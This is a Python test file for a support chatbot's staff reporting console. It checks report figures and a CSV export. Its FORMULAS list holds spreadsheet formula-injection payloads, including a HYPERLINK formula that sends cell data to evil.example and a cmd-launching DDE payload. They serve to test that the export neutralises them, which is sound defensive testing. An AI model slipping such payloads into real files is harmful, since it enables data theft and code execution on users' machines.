"""The report figures over a period, from rows written as the system writes them."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

from bot.service import Service
from storage.models import (
    AuditEntry,
    Beneficiary,
    Conversation,
    Message,
    Request,
    RequestStatusChange,
    SurveyAnswer,
    UnansweredQuestion,
    utcnow,
)
from storage.staff import ConsoleTx
from storage.staff_models import Handling
from storage.staff_reports import build_report
from tests.staff.conftest import ACCOUNTS, queued

START = datetime(2026, 10, 1, tzinfo=UTC)
END = datetime(2026, 11, 1, tzinfo=UTC)
IN = START + timedelta(days=3)
BEFORE = START - timedelta(days=3)


async def test_figures_for_a_month(console_service: Service) -> None:
    async with console_service.db.session() as s:
        person = Beneficiary(display_name="x")
        s.add(person)
        await s.flush()
        web = Conversation(beneficiary_id=person.id, status="bot", last_channel="webchat")
        sms = Conversation(beneficiary_id=person.id, status="bot", last_channel="sms")
        s.add_all([web, sms])
        await s.flush()
        for conv, channel, n in ((web, "webchat", 3), (sms, "sms", 1)):
            for i in range(n):
                s.add(
                    Message(
                        conversation_id=conv.id,
                        beneficiary_id=person.id,
                        direction="in",
                        channel=channel,
                        channel_message_id=f"{channel}-{i}",
                        created_at=IN,
                    )
                )
        s.add(
            Message(
                conversation_id=web.id,
                beneficiary_id=person.id,
                direction="in",
                channel="webchat",
                channel_message_id="old",
                created_at=BEFORE,
            )
        )
        s.add(
            Message(
                conversation_id=web.id,
                beneficiary_id=person.id,
                direction="note",
                channel="webchat",
                created_at=IN,
            )
        )

        def request(ref: str, status: str, due_days: int) -> Request:
            return Request(
                reference=ref,
                beneficiary_id=person.id,
                form_id="support_request",
                kind="request",
                status=status,
                channel="webchat",
                submitted_at=IN,
                due_at=IN + timedelta(days=due_days),
            )

        on_time, late_decision, open_late = (
            request("SR-1", "approved", 14),
            request("SR-2", "rejected", 2),
            request("SR-3", "under_review", 5),
        )
        s.add_all([on_time, late_decision, open_late])
        await s.flush()
        s.add_all(
            [
                RequestStatusChange(
                    request_id=on_time.id,
                    from_status="submitted",
                    to_status="approved",
                    at=IN + timedelta(days=10),
                    actor="staff:sup@x.org",
                ),
                RequestStatusChange(
                    request_id=late_decision.id,
                    from_status="submitted",
                    to_status="rejected",
                    at=IN + timedelta(days=4),
                    actor="staff:sup@x.org",
                ),
            ]
        )
        for rating, comment in ((5, "ممتاز"), (4, None), (5, None), (2, "تأخر الرد")):
            s.add(
                SurveyAnswer(
                    beneficiary_id=person.id, rating=rating, comment=comment, created_at=IN
                )
            )
        s.add(SurveyAnswer(beneficiary_id=person.id, rating=1, created_at=BEFORE))
        for minutes, (conv, author) in enumerate(
            [(web, "staff:a@x.org")] * 3 + [(sms, "staff:b@x.org"), (web, "bot")], start=4
        ):
            s.add(
                Message(
                    conversation_id=conv.id,
                    beneficiary_id=person.id,
                    direction="out",
                    channel=conv.last_channel or "webchat",
                    author=author,
                    created_at=IN + timedelta(minutes=minutes),
                )
            )
        for text in ("كم مدة الرد؟", "كم مده الرد؟", "كم  مدة الرد؟", "أين مقركم؟"):
            s.add(UnansweredQuestion(text=text, lang="ar", created_at=IN))
        s.add_all(
            [
                Handling(
                    conversation_id=web.id,
                    staff="a@x.org",
                    queued_at=IN,
                    claimed_at=IN + timedelta(minutes=2),
                    first_reply_at=IN + timedelta(minutes=4),
                    replies=3,
                    outcome="closed",
                    ended_at=IN + timedelta(minutes=30),
                ),
                AuditEntry(
                    at=IN + timedelta(minutes=30),
                    actor="staff:a@x.org",
                    action="conversation.closed",
                    subject=str(web.id),
                ),
                Handling(
                    conversation_id=sms.id,
                    staff="b@x.org",
                    queued_at=IN,
                    claimed_at=IN + timedelta(minutes=5),
                    first_reply_at=IN + timedelta(minutes=10),
                    replies=1,
                ),
            ]
        )

    async with console_service.db.session(write=False) as s:
        report = await build_report(s, START, END)

    assert report.messages_in == {"webchat": 3, "sms": 1}
    assert report.conversations == {"webchat": 1, "sms": 1}
    assert report.requests_by_status == {"approved": 1, "rejected": 1, "under_review": 1}
    assert (report.decided, report.decided_on_time, report.open_late) == (2, 1, 1)
    assert report.on_time_share == 0.5
    assert report.ratings == {5: 2, 4: 1, 2: 1}
    assert report.rating_average == 4.0
    assert sorted(c[2] for c in report.comments) == ["تأخر الرد", "ممتاز"]
    # Spelling variants of one question count together.
    assert report.unanswered[0][1] == 3 and report.unanswered[1] == ("أين مقركم؟", 1)
    assert report.median_first_response_minutes == 7.0
    by_staff = {f.staff: f for f in report.per_staff}
    assert by_staff["a@x.org"].closed == 1 and by_staff["a@x.org"].replies == 3
    assert by_staff["a@x.org"].median_first_response_minutes == 4.0
    assert by_staff["b@x.org"].replies == 1 and by_staff["b@x.org"].closed == 0
    assert by_staff["sup@x.org"].request_changes == 2

    async with console_service.db.session(write=False) as s:
        empty = await build_report(s, END, END + timedelta(days=30))
    assert empty.surveys == 0 and empty.rating_average is None and empty.on_time_share is None


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"اضغط هنا")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+966551234567",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


async def test_the_csv_gives_what_beneficiaries_typed_as_text_never_as_a_formula(
    console_service: Service, browser_for: Any
) -> None:
    async with console_service.db.session() as s:
        for text in [*FORMULAS, "كم مدة الرد؟"]:
            s.add(UnansweredQuestion(text=text, lang="ar"))
    supervisor = await browser_for("supervisor")
    exported = await supervisor.get("/staff/reports.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    unanswered = [r[1] for r in rows if r[0] == "unanswered"]
    # (Spelling and spacing variants of one question count together, under one of them.)
    assert len(unanswered) >= 6 and "كم مدة الرد؟" in unanswered  # plain text as it was
    for cell in unanswered:
        if cell != "كم مدة الرد؟":
            assert cell.startswith("'") and cell[1:].strip() in [f.strip() for f in FORMULAS]
    assert f"'{FORMULAS[0]}" in unanswered and f"'{FORMULAS[1]}" in unanswered
    # The figures stay numbers.
    assert rows[0] == ["section", "key", "value"]
    assert all(r[2].isdigit() for r in rows if r[0] in ("unanswered", "requests"))


def test_every_text_cell_that_starts_like_a_formula_is_made_text() -> None:
    from staff.routes_reports import safe_cell, write_csv

    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    for kept in ("كم مدة الرد؟", "staff:a@x.org", "2026-11-01", "a=b", "", 3, -2, 4.5):
        assert safe_cell(kept) == kept
    assert write_csv([["unanswered", "=1+1", -1]]) == "unanswered,'=1+1,-1\r\n"


async def test_replies_and_closures_count_for_whoever_made_them(console_service: Service) -> None:
    """A supervisor's reply in an agent's conversation and an administrator closing it are
    theirs; whoever takes a conversation put back in the queue is timed from then."""
    conversation_id = await queued(console_service)
    agent, agent2 = ACCOUNTS["agent"], ACCOUNTS["agent2"]
    supervisor, admin = ACCOUNTS["supervisor"], ACCOUNTS["admin"]
    async with console_service.db.session() as s:
        tx = ConsoleTx(s)
        conversation = await tx.conversation(conversation_id)
        conversation.queued_at = utcnow() - timedelta(hours=2)  # nobody took it for 2 hours
        await tx.claim(conversation, agent)
        await tx.staff_reply(conversation, agent, "أهلًا، أنا معك")
        await tx.staff_reply(conversation, supervisor, "وأنا أتابع معكم")
    async with console_service.db.session() as s:
        await ConsoleTx(s).requeue_held_by(agent, actor="cli")  # the agent was disabled
    async with console_service.db.session() as s:
        tx = ConsoleTx(s)
        conversation = await tx.conversation(conversation_id)
        assert conversation.status == "queued"
        await tx.claim(conversation, agent2)
        await tx.staff_reply(conversation, agent2, "أكمل معك")
    await console_service.close_conversation(conversation_id, actor=f"staff:{admin}")

    now = utcnow()
    async with console_service.db.session(write=False) as s:
        report = await build_report(s, now - timedelta(days=1), now + timedelta(days=1))
    by_staff = {f.staff: f for f in report.per_staff}
    assert set(by_staff) == {agent, agent2, supervisor, admin}
    assert [(f.conversations, f.replies, f.closed) for f in report.per_staff] == [
        (0, 0, 1),  # admin
        (1, 1, 0),  # agent
        (1, 1, 0),  # agent2
        (0, 1, 0),  # supervisor
    ]
    assert [f.staff for f in report.per_staff] == sorted(by_staff)
    first = by_staff[agent].median_first_response_minutes
    assert first is not None and first >= 119
    # Timed from when it came back to the queue, not from the beneficiary's first wait.
    assert by_staff[agent2].median_first_response_minutes == 0.0
    assert by_staff[supervisor].median_first_response_minutes is None
